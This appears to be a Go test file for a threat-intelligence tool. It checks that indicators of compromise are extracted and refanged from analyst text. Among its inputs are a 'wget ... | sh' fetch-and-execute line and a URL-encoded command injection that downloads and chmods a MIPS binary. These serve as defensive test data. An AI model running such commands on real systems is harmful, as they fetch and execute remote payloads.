package ioc

import (
	"encoding/json"
	"slices"
	"sort"
	"strings"
	"testing"
)

// pair is one (type, value) an extraction should report.
type pair struct {
	typ   Type
	value string
}

func (p pair) String() string { return string(p.typ) + ":" + p.value }

func d(v string) pair  { return pair{Domain, v} }
func u(v string) pair  { return pair{URL, v} }
func v4(v string) pair { return pair{IPv4, v} }
func em(v string) pair { return pair{Email, v} }

// urlRow expects a URL and the domain of its host.
func urlRow(url, host string) []pair { return []pair{u(url), d(host)} }

func pairsOf(inds []Indicator) []pair {
	var out []pair
	for _, i := range inds {
		out = append(out, pair{i.Type, i.Value})
	}
	sort.Slice(out, func(a, b int) bool { return out[a].String() < out[b].String() })
	return out
}

func sortedPairs(ps []pair) []pair {
	out := slices.Clone(ps)
	sort.Slice(out, func(a, b int) bool { return out[a].String() < out[b].String() })
	return out
}

// contexts wrap a probe the way analysts paste it: alone, in a sentence,
// in Markdown, in JSON (slashes escaped as many encoders do) and in CSV.
var contexts = []struct {
	name string
	wrap func(string) (string, bool)
}{
	{"alone", func(s string) (string, bool) { return s, true }},
	{"prose", func(s string) (string, bool) { return "Analysts saw " + s + " yesterday\nand moved on.", true }},
	{"markdown", func(s string) (string, bool) {
		if strings.Contains(s, "|") {
			return "## Indicators\n\n- " + s + "\n- done\n", true
		}
		return "| # | indicator | note |\n|---|---|---|\n| 1 | " + s + " | seen |\n", true
	}},
	{"json", func(s string) (string, bool) {
		if strings.Contains(s, `\`) || strings.Contains(s, "\n") || strings.Contains(s, "&amp;") {
			// Escaping the probe's own backslashes, line breaks or entities
			// would change what it means.
			return "", false
		}
		b, err := json.Marshal(map[string]string{"indicator": s})
		if err != nil {
			return "", false
		}
		return `{"alert":` + strings.ReplaceAll(string(b), "/", `\/`) + `}`, true
	}},
	{"parenthesized", func(s string) (string, bool) { return "The host was seen\n(" + s + ") twice.", true }},
	{"sentence end", func(s string) (string, bool) { return "The analyst flagged\n" + s + ".", true }},
	{"csv", func(s string) (string, bool) {
		if strings.ContainsAny(s, `,"`) {
			s = `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
		}
		return "id,indicator,note\r\n1," + s + ",seen\r\n", true
	}},
}

var extractCases = []struct {
	in   string
	want []pair
}{
	// Refanging.
	{"example[.]com", []pair{d("example.com")}},
	{"example(.)com", []pair{d("example.com")}},
	{"example{.}com", []pair{d("example.com")}},
	{"example[dot]com", []pair{d("example.com")}},
	{"example[DOT]com", []pair{d("example.com")}},
	{"example(dot)com", []pair{d("example.com")}},
	{"example{dot}com", []pair{d("example.com")}},
	{`example\.com`, []pair{d("example.com")}},
	{"example[.com", []pair{d("example.com")}},
	{"example [.] com", []pair{d("example.com")}},
	{"[www].example.com", []pair{d("www.example.com")}},
	{"example[-]site.com", []pair{d("example-site.com")}},
	{"hxxp://example.com/path", urlRow("http://example.com/path", "example.com")},
	{"hXXp://example.com/path", urlRow("http://example.com/path", "example.com")},
	{"HXXP://example.com/path", urlRow("http://example.com/path", "example.com")},
	{"h**p://example.com/path", urlRow("http://example.com/path", "example.com")},
	{"httx://example.com/path", urlRow("http://example.com/path", "example.com")},
	{"hxtp://example.com/path", urlRow("http://example.com/path", "example.com")},
	{"meow://example.com/path", urlRow("http://example.com/path", "example.com")},
	{"hxxps://example[.]com/path", urlRow("https://example.com/path", "example.com")},
	{"h00ps://example(.)com/path", urlRow("https://example.com/path", "example.com")},
	{"hxxp[:]//example[.]com/path", urlRow("http://example.com/path", "example.com")},
	{"http[:]//example.com/path", urlRow("http://example.com/path", "example.com")},
	{"http[://]example.com/path", urlRow("http://example.com/path", "example.com")},
	{"http(:)//example.com/path", urlRow("http://example.com/path", "example.com")},
	{"[http]://example.com/path", urlRow("http://example.com/path", "example.com")},
	{`http:\\example.com/path`, urlRow("http://example.com/path", "example.com")},
	{"http__example.com/path", urlRow("http://example.com/path", "example.com")},
	{"http//example.com/path", urlRow("http://example.com/path", "example.com")},
	{"fxp://example.com/path", urlRow("ftp://example.com/path", "example.com")},
	{"tcp://example[.]com:8989/bad", urlRow("tcp://example.com:8989/bad", "example.com")},
	{"http://example.com[/]path", urlRow("http://example.com/path", "example.com")},
	{`https://example.com\/path`, urlRow("https://example.com/path", "example.com")},
	{"http://example[.]com/path[.]php", urlRow("http://example.com/path.php", "example.com")},
	{`http:\/\/example.com\/a\/b`, urlRow("http://example.com/a/b", "example.com")},
	{"HXXPS://EXAMPLE[.]COM/X", urlRow("https://example.com/X", "example.com")},
	{"1.2.3[.]4", []pair{v4("1.2.3.4")}},
	{"1[.]2[.]3[.]4", []pair{v4("1.2.3.4")}},
	{"1[.2[.3[.4", []pair{v4("1.2.3.4")}},
	{`1\.2\.3\.4`, []pair{v4("1.2.3.4")}},
	{"1.2.3(dot)4", []pair{v4("1.2.3.4")}},
	{"1.2.3{.}4", []pair{v4("1.2.3.4")}},
	{"[1.2.3.4]", []pair{v4("1.2.3.4")}},
	{"1.2.3.4:8080", []pair{v4("1.2.3.4")}},
	{"1.2.3[.]4/24", []pair{v4("1.2.3.4")}},
	{"2001:db8[:]:1", []pair{{IPv6, "2001:db8::1"}}},
	{"user[@]example.com", []pair{em("user@example.com"), d("example.com")}},
	{"user(@)example.com", []pair{em("user@example.com"), d("example.com")}},
	{"user{@}example.com", []pair{em("user@example.com"), d("example.com")}},
	{"user[at]example.com", []pair{em("user@example.com"), d("example.com")}},
	{"user(at)example.com", []pair{em("user@example.com"), d("example.com")}},
	{"user[AT]example[DOT]com", []pair{em("user@example.com"), d("example.com")}},
	{"user [at] example [dot] com", []pair{em("user@example.com"), d("example.com")}},
	{"user (at) example [.] com", []pair{em("user@example.com"), d("example.com")}},
	{"user@example[.]com", []pair{em("user@example.com"), d("example.com")}},
	{"first[.]last@example[.]com", []pair{em("first.last@example.com"), d("example.com")}},
	{"example。com", []pair{d("example.com")}},
	{"example．com", []pair{d("example.com")}},
	{"cve-2017-0144", []pair{{CVE, "CVE-2017-0144"}}},
	{"CVE 2019-0708", []pair{{CVE, "CVE-2019-0708"}}},

	// Boundaries.
	{"(see http://a.example.com/x).", urlRow("http://a.example.com/x", "a.example.com")},
	{`"http://a.example.com/p?q=1",`, urlRow("http://a.example.com/p?q=1", "a.example.com")},
	{`'http://a.example.com/p?q=1',`, urlRow("http://a.example.com/p?q=1", "a.example.com")},
	{"<http://a.example.com/i.html>", urlRow("http://a.example.com/i.html", "a.example.com")},
	{"[text](https://a.example.com/x)", urlRow("https://a.example.com/x", "a.example.com")},
	{"[https://a.example.com/x](https://a.example.com/x)", urlRow("https://a.example.com/x", "a.example.com")},
	{"http://en.wikipedia.org/wiki/Bolt_(ransomware)", urlRow("http://en.wikipedia.org/wiki/Bolt_(ransomware)", "en.wikipedia.org")},
	{"http://a.example.com/file.exe.", urlRow("http://a.example.com/file.exe", "a.example.com")},
	{"https://a.example.com/v#page=2,", urlRow("https://a.example.com/v#page=2", "a.example.com")},
	{"https://a.example.com/v?a=1&x=1;", urlRow("https://a.example.com/v?a=1&x=1", "a.example.com")},
	{"`hxxp://1.2.3[.]4/x`", []pair{u("http://1.2.3.4/x"), v4("1.2.3.4")}},
	{"wget -O- http://1.2.3.4/t.sh|sh", []pair{u("http://1.2.3.4/t.sh"), v4("1.2.3.4")}},
	{"sub_domain.evil.com", []pair{d("sub_domain.evil.com")}},
	{"evil.com.Next sentence", []pair{d("evil.com")}},

	// Further refang forms of DESIGN.md.
	{"http[:/]/example.com/path", urlRow("http://example.com/path", "example.com")},
	{"http://example.com[/]a[/]b", urlRow("http://example.com/a/b", "example.com")},
	{"user@exa[.]mple(.)co{.}uk", []pair{em("user@exa.mple.co.uk"), d("exa.mple.co.uk")}},

	// What realistic documents add.
	{"<p>See the statement: <a href=3D\"https://invoice-secure-d=\nocs.com/view\"", urlRow("https://invoice-secure-docs.com/view", "invoice-secure-docs.com")},
	{"Chrome/131.0.0.0 and build 2.7.1.0", nil},
	{"$(cd%20/tmp;%20wget%20http://203.0.113.201/bins/mips;%20chmod%20777%20mips)", []pair{u("http://203.0.113.201/bins/mips"), v4("203.0.113.201")}},
	{"http://a.example.com/?a=1&amp;b=2", urlRow("http://a.example.com/?a=1&b=2", "a.example.com")},
	{"+++hxxp://203.0.113[.]45/s.php+++", []pair{u("http://203.0.113.45/s.php"), v4("203.0.113.45")}},
	{"2001:db8:4f1a::/48", []pair{{IPv6, "2001:db8:4f1a::"}}},
	{"Trojan:Win32/Emotet.AD!MTB", nil},
}

func TestExtractRows(t *testing.T) {
	for _, tc := range extractCases {
		for _, ctx := range contexts {
			text, ok := ctx.wrap(tc.in)
			if !ok {
				continue
			}
			got := pairsOf(mustExtract(t, text))
			want := sortedPairs(tc.want)
			if !slices.Equal(got, want) {
				t.Errorf("%s %q:\n got %v\nwant %v", ctx.name, text, got, want)
			}
		}
	}
}

// notCases hold text in which no indicator of the listed types exists.
var notCases = []struct {
	in    string
	types []Type
}{
	{"script.py README.md setup.sh archive.zip movie.mov lib.so main.rs invoice.pdf update.exe", []Type{Domain, URL}},
	{"W64/BURNTCIGAR.CA!tr", []Type{Domain}},
	{"Trojan.Win32.Agent.ca", []Type{Domain}},
	{"System.IO.File os.path.join window.location.href Node.js ASP.NET", []Type{Domain}},
	{"1.2.3.4.5 10.0.19045.3803 1.3.6.1.4.1.311 11111.22.33.44", []Type{IPv4}},
	{"300.1.2.3 1.2.3", []Type{IPv4}},
	{"12:30:45 00:1A:2B:3C:4D:5E 3:2", []Type{IPv6}},
	{strings.Repeat("ab12", 8) + "c", hashTypes},                           // 33 hex
	{strings.Repeat("ab12", 12), hashTypes},                                // 48 hex
	{strings.Repeat("ab12", 9), hashTypes},                                 // 32 hex inside a longer run
	{"x" + strings.Repeat("ab12", 8), hashTypes},                           // x + 32 hex
	{"0x52908400098527886e0f7030069857d2e4169ee7", []Type{SHA1, MD5}},      // Ethereum
	{"{3F2504E0-4F89-11D3-9A0C-0305E82C3301}", hashTypes},                  // GUID
	{"e.g. i.e. U.S. J.R.R.", AllTypes()},                                  // abbreviations
	{"CVE-2021- CVE-99-1234", []Type{CVE}},                                 // malformed
	{"See http://a.example.com/x for details.", []Type{IPv4, IPv6, Email}}, // nothing else
}

var hashTypes = []Type{MD5, SHA1, SHA256, SHA512}

func TestNotIndicators(t *testing.T) {
	for _, tc := range notCases {
		for _, ctx := range contexts {
			text, ok := ctx.wrap(tc.in)
			if !ok {
				continue
			}
			for _, ind := range mustExtract(t, text) {
				if slices.Contains(tc.types, ind.Type) {
					t.Errorf("%s %q: unexpected %s %q", ctx.name, text, ind.Type, ind.Value)
				}
			}
		}
	}
}

func TestEthereumNotSHA1(t *testing.T) {
	got := pairsOf(mustExtract(t, "pay 0x52908400098527886e0f7030069857d2e4169ee7 now"))
	want := []pair{{ETH, "0x52908400098527886e0f7030069857d2e4169ee7"}}
	if !slices.Equal(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
}

func mustExtract(t *testing.T, text string) []Indicator {
	t.Helper()
	inds, _ := Extract([]byte(text), Options{})
	return inds
}

func find(inds []Indicator, typ Type, value string) (Indicator, bool) {
	for _, i := range inds {
		if i.Type == typ && i.Value == value {
			return i, true
		}
	}
	return Indicator{}, false
}

func TestRecordFields(t *testing.T) {
	text := "evil[.]com then evil.com and http://evil.com/x and 1.2.3[.]4/24 and [1.2.3.4] fe80::1%eth0"
	inds := mustExtract(t, text)
	tests := []struct {
		typ      Type
		value    string
		raw      []string
		defanged bool
		count    int
		offsets  []int64
		derived  bool
	}{
		{Domain, "evil.com", []string{"evil[.]com", "evil.com"}, true, 3, []int64{0, 16, 36}, false},
		{URL, "http://evil.com/x", []string{"http://evil.com/x"}, false, 1, []int64{29}, false},
		{IPv4, "1.2.3.4", []string{"1.2.3[.]4/24", "1.2.3.4"}, true, 2, []int64{51, 69}, false},
		{IPv6, "fe80::1", []string{"fe80::1%eth0"}, false, 1, []int64{78}, false},
	}
	for _, tc := range tests {
		ind, ok := find(inds, tc.typ, tc.value)
		if !ok {
			t.Errorf("%s %s missing", tc.typ, tc.value)
			continue
		}
		if !slices.Equal(ind.Raw, tc.raw) || ind.Defanged != tc.defanged || ind.Count != tc.count ||
			!slices.Equal(ind.Offsets, tc.offsets) || slices.Contains(ind.Tags, TagDerived) != tc.derived {
			t.Errorf("%s %s: got raw %q defanged %v count %d offsets %v tags %v", tc.typ, tc.value,
				ind.Raw, ind.Defanged, ind.Count, ind.Offsets, ind.Tags)
		}
		for _, off := range ind.Offsets {
			if !strings.HasPrefix(text[off:], ind.Raw[0][:1]) {
				t.Errorf("%s %s: offset %d does not point at the indicator", tc.typ, tc.value, off)
			}
		}
	}
}

func TestDerivedAndOrder(t *testing.T) {
	inds := mustExtract(t, "mail bob@evil.com, then http://10.0.0.1/a and hxxp://bad.example.org/p")
	var got []string
	for _, i := range inds {
		got = append(got, string(i.Type)+":"+i.Value+":"+strings.Join(i.Tags, "+")+":"+boolWord(i.Defanged))
	}
	want := []string{
		"email:bob@evil.com::no",
		"domain:evil.com:derived:no",
		"url:http://10.0.0.1/a:private:no",
		"ipv4:10.0.0.1:private+derived:no",
		"url:http://bad.example.org/p::yes",
		"domain:bad.example.org:derived:yes",
	}
	if !slices.Equal(got, want) {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

func boolWord(b bool) string {
	if b {
		return "yes"
	}
	return "no"
}

func TestMarkdownLinkOnce(t *testing.T) {
	inds := mustExtract(t, "[https://a.example.com/x](https://a.example.com/x)")
	n := 0
	for _, i := range inds {
		if i.Type == URL {
			n++
		}
	}
	if n != 1 {
		t.Errorf("got %d URL records, want 1", n)
	}
}

func TestDefangedFlag(t *testing.T) {
	tests := []struct {
		in       string
		typ      Type
		defanged bool
	}{
		{"evil.com", Domain, false},
		{"evil[.]com", Domain, true},
		{"hxxp://evil.com/a", URL, true},
		{`http:\/\/evil.com\/a`, URL, false},
		{"evil。com", Domain, true},
		{"user(at)evil.com", Email, true},
		{"setup[.]py", Domain, true},
	}
	for _, tc := range tests {
		inds := mustExtract(t, tc.in)
		found := false
		for _, i := range inds {
			if i.Type == tc.typ {
				found = true
				if i.Defanged != tc.defanged {
					t.Errorf("%q: defanged = %v, want %v", tc.in, i.Defanged, tc.defanged)
				}
			}
		}
		if !found {
			t.Errorf("%q: no %s", tc.in, tc.typ)
		}
	}
}
